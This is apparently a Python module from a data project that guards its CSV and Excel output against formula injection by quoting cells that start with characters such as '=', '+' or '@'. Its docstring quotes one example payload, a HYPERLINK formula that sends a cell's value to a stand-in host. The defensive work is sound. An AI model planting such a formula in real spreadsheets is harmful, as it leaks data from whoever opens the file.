"""Every CSV and Excel file the project writes goes through here, so that no cell becomes a formula.

Enterprise names, towns and public values come from department extracts and from people; a name
such as `=HYPERLINK("http://evil.example/?x="&A1,"点此核验")` would otherwise open as a live formula
in Excel or WPS (CSV injection, OWASP). Following OWASP's advice, a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return (and `|` or `%`, which `defusedcsv` also escapes) is
prefixed with a single quote, so that the spreadsheet shows it as text. Numbers, dates, booleans
and empty cells are left as they are. In .xlsx a neutralised string never starts with `=`, so
openpyxl stores it as a string (`write_excel` also turns any formula cell it finds back into text).

A CSV is written as pandas writes it (minimal quoting), so that a file without dangerous text is
byte for byte what it was before this module (`plan verify` compares task lists byte for byte).
One exception: pandas (Python < 3.13) does not quote a field holding a bare carriage return, and
a spreadsheet ends the row there, so `ACME\r=1+1` would become a second row whose first cell is a
formula; when any text cell holds a carriage return, every text cell is quoted (numbers are not).
"""

from __future__ import annotations

import csv
import itertools
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Literal

import pandas as pd

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "|", "%")
QUOTE = "'"


def neutralise(value: Any) -> Any:
    """`value` prefixed with a single quote if it is text starting with a DANGEROUS character;
    anything else (numbers, dates, None, NaN, other text) unchanged."""
    if isinstance(value, str) and value.startswith(DANGEROUS):
        return QUOTE + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell and column label neutralised (numeric columns untouched)."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_datetime64_any_dtype(out[column])):
            out[column] = out[column].map(neutralise, na_action="ignore")
    out.columns = [neutralise(c) for c in out.columns]
    return out


def _quoting(frame: pd.DataFrame) -> Literal[0, 2]:
    """QUOTE_MINIMAL, unless a text cell or label holds a carriage return: then QUOTE_NONNUMERIC."""
    values = itertools.chain(frame.columns, frame.to_numpy(dtype=object).ravel())
    return csv.QUOTE_NONNUMERIC if any(isinstance(v, str) and "\r" in v for v in values) else csv.QUOTE_MINIMAL


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV text (no index), neutralised: for MLflow table artifacts (`log_text`)."""
    safe = safe_frame(frame)
    return safe.to_csv(index=False, quoting=_quoting(safe))


def write_csv(frame: pd.DataFrame, path: Path, *, encoding: str = "utf-8-sig") -> None:
    """The frame as CSV (no index), neutralised. UTF-8 with a byte-order mark by default, so that
    Excel opens Chinese headers correctly."""
    safe = safe_frame(frame)
    safe.to_csv(path, index=False, encoding=encoding, quoting=_quoting(safe))


def write_excel(sheets: Mapping[str, pd.DataFrame], path: Path) -> None:
    """One sheet per entry (no index), neutralised; no cell of the workbook is stored as a formula."""
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            safe_frame(frame).to_excel(writer, sheet_name=name, index=False)
            for row in writer.sheets[name].iter_rows():
                for cell in row:
                    if cell.data_type == "f":  # cannot happen after neutralise; a last guard all the same
                        cell.value, cell.data_type = QUOTE + str(cell.value), "s"


__all__ = ["DANGEROUS", "csv_text", "neutralise", "safe_frame", "write_csv", "write_excel"]
